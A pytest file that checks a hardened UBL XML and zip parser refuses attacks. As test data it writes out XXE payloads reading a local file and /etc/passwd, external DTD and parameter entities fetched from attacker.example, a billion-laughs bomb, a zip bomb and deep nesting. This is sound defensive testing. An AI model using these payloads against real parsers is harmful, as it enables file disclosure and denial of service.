"""Hardened parsing: every attack carried by XML or zip is refused, and says why."""

from __future__ import annotations

import time
import zipfile
from pathlib import Path

from tests.ingest.ubl.docs import guide
from traza.core.rejection import Rejection
from traza.ingest.ubl.parse import (
    MAX_DOCUMENT_BYTES,
    RawDocument,
    parse_document,
    read_file,
    read_zip,
)

UBL_ROOT = '<DespatchAdvice xmlns="urn:oasis:names:specification:ubl:schema:xsd:DespatchAdvice-2">'


def _parse(text: str | bytes, name: str = "x.xml") -> object:
    data = text.encode() if isinstance(text, str) else text
    return parse_document(RawDocument(name, data))


def _refused(result: object, words: str) -> Rejection:
    assert isinstance(result, Rejection), result
    assert words in result.reason, result.reason
    assert result.file and result.column
    return result


def test_a_real_guide_parses() -> None:
    root = _parse(guide())
    assert not isinstance(root, Rejection)


def test_external_entity_to_a_local_file_is_refused_and_never_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE")
    xxe = (f'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "file://{secret}">]>\n'
           f"{UBL_ROOT}<ID>&xxe;</ID></DespatchAdvice>")
    r = _refused(_parse(xxe), "DOCTYPE")
    assert "TOP-SECRET-VALUE" not in repr(r)


def test_external_entity_hidden_in_utf16_is_refused(tmp_path: Path) -> None:
    xxe = (f'<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
           f"{UBL_ROOT}<ID>&xxe;</ID></DespatchAdvice>")
    r = _refused(_parse(xxe.encode("utf-16")), "DOCTYPE")
    assert "root:" not in repr(r)


def test_external_dtd_and_parameter_entities_are_refused() -> None:
    _refused(_parse(f'<!DOCTYPE d SYSTEM "http://attacker.example/x.dtd">{UBL_ROOT}</DespatchAdvice>'), "DOCTYPE")
    pe = ('<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'
          f"{UBL_ROOT}</DespatchAdvice>")
    _refused(_parse(pe), "DOCTYPE")


def test_billion_laughs_is_refused_at_once() -> None:
    lol = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    bomb = f'<?xml version="1.0"?>\n<!DOCTYPE lolz [{"".join(lol)}]>\n{UBL_ROOT}<ID>&lol9;</ID></DespatchAdvice>'
    started = time.perf_counter()
    _refused(_parse(bomb), "DOCTYPE")
    assert time.perf_counter() - started < 1.0


def test_oversized_document_is_refused_unread(tmp_path: Path) -> None:
    big = tmp_path / "big.xml"
    with big.open("wb") as fh:
        fh.write(f"{UBL_ROOT}<Note>".encode())
        fh.write(b"x" * (MAX_DOCUMENT_BYTES + 10))
        fh.write(b"</Note></DespatchAdvice>")
    _refused(read_file(big, "big.xml"), "larger than the limit")


def test_deep_nesting_is_refused() -> None:
    deep = UBL_ROOT + "<a>" * 5000 + "</a>" * 5000 + "</DespatchAdvice>"
    _refused(_parse(deep), "not well-formed")


def test_malformed_xml_names_line_and_column() -> None:
    r = _refused(_parse(f"{UBL_ROOT}\n<ID>T001-1</Id></DespatchAdvice>"), "line 2")
    assert r.column == "/"


def test_zip_bomb_is_refused_as_a_whole(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("a.xml", b"\0" * (60 * 2**20))  # 60 MiB of zeros, about 60 KB packed
    out = list(read_zip(bomb, "bomb.zip"))
    assert len(out) == 1
    r = _refused(out[0], "zip bomb")
    assert r.file == "bomb.zip"


def test_zip_members_other_than_xml_and_nested_zips_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "mixed.zip"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("ok/T001-1.xml", guide())
        z.writestr("notes.txt", "hello")
        z.writestr("inner.zip", b"PK\x05\x06" + b"\0" * 18)
        z.writestr("__MACOSX/._T001-1.xml", b"junk")
    out = list(read_zip(path, "mixed.zip"))
    docs = [o for o in out if isinstance(o, RawDocument)]
    refused = {o.file: o.reason for o in out if isinstance(o, Rejection)}
    assert [d.file for d in docs] == ["mixed.zip:ok/T001-1.xml"]
    assert set(refused) == {"mixed.zip:notes.txt", "mixed.zip:inner.zip"}
    assert "archives inside archives" in refused["mixed.zip:inner.zip"]


def test_not_a_zip_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "fake.zip"
    path.write_text("not a zip")
    _refused(next(iter(read_zip(path, "fake.zip"))), "not a readable zip")


def test_invalid_namespace_uri_alone_is_tolerated() -> None:
    # A real SUNAT receipt declares xmlns:schemaLocation with a Windows path: libxml2 warns.
    text = (UBL_ROOT[:-1] + ' xmlns:schemaLocation="urn:x ..\\xsd\\a.xsd"><ID>1</ID></DespatchAdvice>')
    assert not isinstance(_parse(text), Rejection)
